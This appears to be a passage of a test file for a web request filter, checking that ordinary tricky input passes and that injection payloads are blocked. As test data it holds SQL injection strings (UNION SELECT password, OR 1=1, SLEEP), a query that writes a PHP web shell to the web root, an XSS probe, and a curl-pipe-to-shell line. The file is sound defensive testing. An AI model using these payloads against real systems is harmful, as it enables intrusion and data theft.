      expect(json({ jsessionid: "a1b2c3" }).matches?.map((m) => m.ruleId)).toContain("fixation-session-param");
    }
  });

  it("lets ordinary tricky input through", () => {
    for (const v of [
      "O'Brien",
      "D'Angelo and O'Neil",
      "rock and roll",
      "rock 'n' roll",
      "select committee report",
      "union station",
      "50% off shoes",
      "Ben & Jerry's; cat café",
      "5'10\" tall",
      "x < y && y > z",
      "it's 1 or 2 people",
      "jane.o'hara+news@example.com",
      "東京 ラーメン",
      "Where's the /etc/hosts file on a Mac?",
      "javascript: void(0)",
    ]) {
      expect(query(v).action, v).toBe("allow");
    }
    expect(query("https://example.com/x?a=1&b=2", "next").action).toBe("allow");
    expect(query("https://cdn.example.com/report.pdf", "file").action).toBe("allow");
    expect(
      json({
        title: "Release notes",
        body: "## Setup\n\n```bash\nnpm install\ncurl -fsSL https://get.example.com | sh\n```\n\nThen open http://localhost:3000 and select a union type.",
      }).action,
    ).toBe("allow");
    expect(
      form("name=Siobh%C3%A1n+O%27Neill&message=I%27d+like+to+drop+the+reservation%3B+please+update+it.").action,
    ).toBe("allow");
  });

  it("code snippets in JSON: a complete SQL statement is code, a fragment that continues one is injection (documented decision)", () => {
    expect(
      json({ language: "sql", code: "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;" }).action,
    ).toBe("allow");
    expect(json({ language: "sql", code: "SELECT name FROM staff UNION SELECT name FROM contractors;" }).action).toBe(
      "allow",
    );
    expect(json({ language: "sql", code: "SELECT * FROM t WHERE id = 1 OR 1=1" }).action).toBe("allow");
    expect(
      json({
        language: "js",
        code: "const total = items.reduce((a, b) => a + b.price, 0); if (a < b && c > d) return;",
      }).action,
    ).toBe("allow");
    // Fragments that continue someone else's statement, and attack-only functions even in a statement:
    expect(json({ language: "sql", code: "42 UNION SELECT password, 1 FROM users" }).action).toBe("block");
    expect(json({ language: "sql", code: "x' OR 1=1 --" }).action).toBe("block");
    expect(json({ language: "sql", code: "SELECT SLEEP(10)" }).action).toBe("block");
    expect(
      json({ language: "sql", code: "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/s.php'" }).action,
    ).toBe("block");
  });

  it("mode log turns blocks into logged would-be blocks", () => {
    const d = evaluateRequest(
      req({ url: "https://edge.test/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }),
      security({ mode: "log" }),
    );
    expect(d).toMatchObject({ action: "log", wouldBlock: true, class: "xss" });
  });
});
